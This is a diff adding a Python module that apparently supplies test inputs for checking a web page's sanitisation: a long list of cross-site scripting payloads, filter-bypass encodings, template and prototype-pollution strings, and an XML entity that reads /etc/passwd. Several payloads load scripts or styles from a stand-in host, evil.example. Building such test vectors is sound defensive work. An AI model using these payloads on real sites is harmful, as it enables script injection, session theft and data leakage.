@@ -1,0 +1,231 @@
+"""What somebody may write in the hope that a page runs it or takes it for its own markup."""
+
+RUN = "pwned=1"
+_IMAGE = f"<img src=x onerror={RUN}>"
+_SCRIPT = f"<script>{RUN}</script>"
+
+_SCRIPTS = (
+    _SCRIPT,
+    f"<SCRIPT>{RUN}</SCRIPT >",
+    f"<script\n>{RUN}</script\n>",
+    f"<scr<script>ipt>{RUN}</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<script/src=data:,pwned=1></script>",
+    f"<script type=module>{RUN}</script>",
+    f"<script>/*{RUN}",
+    f"<sCrIpT/x>{RUN}//</sCrIpT>",
+    f"<script>{RUN}<!--",
+    f"<<script>{RUN}//<</script>",
+    f"%3Cscript%3E{RUN}%3C/script%3E",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"<script nonce=a>{RUN}</script>",
+    f'<script type=importmap>{{"imports":{{}}}}</script>{_SCRIPT}',
+)
+_HANDLERS = tuple(
+    template.format(RUN)
+    for template in (
+        "<img src=x onerror={}>",
+        "<IMG SRC=x OnErRoR='{}'>",
+        "<img/src/onerror={}>",
+        "<img src=x:x onerror\n=\n{}>",
+        "<body onload={}>",
+        "<input autofocus onfocus={}>",
+        "<select autofocus onfocus={}>",
+        "<textarea autofocus onfocus={}>",
+        "<details open ontoggle={}>x</details>",
+        "<video src=x onerror={}>",
+        "<audio src=x onerror={}>",
+        "<video><source onerror={}></video>",
+        "<marquee onstart={}>x</marquee>",
+        "<p onmouseover={}>x</p>",
+        "<div onpointerenter={} style=position:fixed;inset:0>",
+        "<b tabindex=0 onfocus={} autofocus>",
+        "<style onload={}></style>",
+        "<link rel=stylesheet href=x onerror={}>",
+        "<iframe onload={}></iframe>",
+        "<object data=x onerror={}>",
+        "<embed src=x onload={}>",
+        "<keygen autofocus onfocus={}>",
+        "<dialog open onclose={}>",
+        "<p style=animation:x onanimationstart={}>",
+        "<p style=transition:all onfocusin={}>",
+        "<a href=# onclick={}>x</a>",
+        "<form onsubmit={}><button autofocus>",
+        "<image src=x onerror={}>",
+        "<isindex onfocus={} autofocus>",
+        "<button popovertarget=x onclick={}>x",
+        "<p popover id=x onbeforetoggle={}>",
+        "<slot onslotchange={}>",
+    )
+)
+_FOREIGN = tuple(
+    template.format(RUN)
+    for template in (
+        "<svg onload={}>",
+        "<svg><script>{}</script></svg>",
+        "<svg><script>&#112;wned=1</script>",
+        "<svg><animate onbegin={} attributeName=x dur=1s>",
+        "<svg><set onbegin={} attributeName=x>",
+        "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a>",
+        "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'>",
+        "<svg><foreignObject><img src=x onerror={}></foreignObject>",
+        "<svg><desc><img src=x onerror={}></desc>",
+        "<math href='javascript:{}'>x</math>",
+        "<math><maction actiontype=statusline xlink:href='javascript:{}'>x",
+        "<math><mtext><table><mglyph><style><img src=x onerror={}>",
+        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
+        "<svg></p><style><a title='</style><img src=x onerror={}>'>",
+        "<noscript><p title='</noscript><img src=x onerror={}>'>",
+        "<template><img src=x onerror={}></template>",
+        "<xmp><img src=x onerror={}></xmp>",
+        "<table><td><img src=x onerror={}>",
+        "<math><annotation-xml encoding=text/html><img src=x onerror={}>",
+        "<plaintext><img src=x onerror={}>",
+        "<listing>&lt;img src=x onerror={}&gt;</listing>",
+        "<select><template shadowrootmode=open><img src=x onerror={}>",
+    )
+)
+_ADDRESSES = tuple(
+    template.format(RUN)
+    for template in (
+        "javascript:{}",
+        "JaVaScRiPt:{}",
+        " javascript:{}",
+        "java\tscript:{}",
+        "java\nscript:{}",
+        "\x01javascript:{}",
+        "javascript&colon;{}",
+        "&#106;avascript:{}",
+        "&#x6A&#x61vascript:{}",
+        "javascript://example.org/%0a{}",
+        "data:text/html,<script>parent.{}</script>",
+        "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
+        "vbscript:{}",
+        "view-source:javascript:{}",
+        "blob:javascript:{}",
+        "https:javascript:{}",
+        "//evil.example/{}",
+        'http://a" onmouseover="{}',
+        "https://a'onfocus='{}'autofocus='",
+        'https://[::1]"><img src=x onerror={}>',
+        "<a href=javascript:{}>x</a>",
+        "<a href=' &#14; javascript:{}'>x</a>",
+        "<a href='java&Tab;script:{}'>x</a>",
+        "<iframe src=javascript:{}>",
+        "<iframe srcdoc='<script>parent.{}</script>'>",
+        "<iframe src='data:text/html,{}'>",
+        "<object data=javascript:{}>",
+        "<embed src=javascript:{}>",
+        "<form action=javascript:{}><input type=submit>",
+        "<button form=x formaction=javascript:{}>x",
+        "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+        "<base href=javascript:{}//>",
+        "<base href=//evil.example/>{}",
+        "<link rel=import href='data:text/html,{}'>",
+    )
+)
+# Out of where the words may stand, into the page around.
+_WAYS_OUT = (
+    '">',
+    "'>",
+    "`>",
+    "</script>",
+    "</title>",
+    "</style>",
+    "</textarea>",
+    "</select>",
+    "</bdi>",
+    "</p></main>",
+    "-->",
+    "--!>",
+    "<!--><",
+    "]]>",
+    "<![CDATA[",
+    "</template>",
+    "</noscript>",
+    "</iframe>",
+    '\\">',
+    '"}]}</script>',
+    "*/",
+    "\n\n",
+)
+_QUIET = (
+    "<b id=wb-text>x</b>",
+    "<form name=wb><input name=dataset>",
+    "<a id=wb-status></a><a id=wb-status>",
+    "<img name=getElementById>",
+    "<form id=logout-form action=//evil.example>",
+    "<input name=csrfmiddlewaretoken value=x>",
+    "<iframe name=interpolate>",
+    "<style>*{display:none}</style>",
+    "<p style=width:expression(pwned=1)>",
+    "<style>@import'//evil.example/x.css'</style>",
+    "<p style=background:url(//evil.example/x)>",
+    "<link rel=stylesheet href=//evil.example/x>",
+    "<img src=//evil.example/x>",
+    "{{ 7|add:7 }}{% debug %}",
+    "{% load static %}{% csrf_token %}",
+    "{{constructor.constructor('pwned=1')()}}",
+    "${pwned=1}",
+    "#{pwned=1}",
+    "<%= pwned=1 %>",
+    "{{{<script>pwned=1</script>}}}",
+    "[[${pwned=1}]]",
+    "%(words)s %(n)s %(field)s %s %%",
+    "%(x",
+    "%(__proto__)s",
+    "$& $1 $` $'",
+    "__proto__",
+    "constructor",
+    '{"__proto__":{"pwned":1}}',
+    "toString",
+    "hasOwnProperty",
+    "\\",
+    "＜script＞pwned=1＜/script＞",
+    "\u202e<script>pwned=1</script>\u202c",
+    "<scr\u200bipt>pwned=1</scr\u200bipt>",
+    "<\u200bimg src=x onerror=pwned=1>",
+    "<img\u00a0src=x onerror=pwned=1>",
+    "\ufe64script\ufe65pwned=1",
+    "‹script›pwned=1‹/script›",
+    "<ımg src=x onerror=pwned=1>",
+    "<ſcript>pwned=1</ſcript>",
+    "<img src=x onerror\u2028=pwned=1>",
+    "\xc0\xbcscript\xc0\xbe",
+    "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
+    "\x1b(J<script>pwned=1</script>",
+    "'-(pwned=1)-'",
+    '";pwned=1;//',
+    "';pwned=1//",
+    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
+    "<?xml-stylesheet href=javascript:pwned=1?>",
+    "<!DOCTYPE html><img src=x onerror=pwned=1>",
+    '=HYPERLINK("javascript:pwned=1")',
+    "[x](javascript:pwned=1)",
+    '![x](x"onerror="pwned=1)',
+    "<x-y is=script>pwned=1</x-y>",
+)
+
+VECTORS = (
+    *_SCRIPTS,
+    *_HANDLERS,
+    *_FOREIGN,
+    *_ADDRESSES,
+    *_QUIET,
+    *(f"{out}{_IMAGE if number % 2 else _SCRIPT}" for number, out in enumerate(_WAYS_OUT)),
+)
+# As many, as long, of letters and of what is shown as a badge.
+HARMLESS = tuple(
+    f"{number} \u202e{'word ' * (len(each) // 5)}" for number, each in enumerate(VECTORS)
+)
+
+
+def packed(vectors: tuple[str, ...], room: int) -> list[str]:
+    """All of them in as few strings of at most `room` characters as their order allows."""
+    packs: list[str] = [""]
+    for vector in vectors:
+        if len(packs[-1]) + len(vector) >= room:
+            packs.append("")
+        packs[-1] += f" {vector}"[:room]
+    return [pack.strip() for pack in packs]
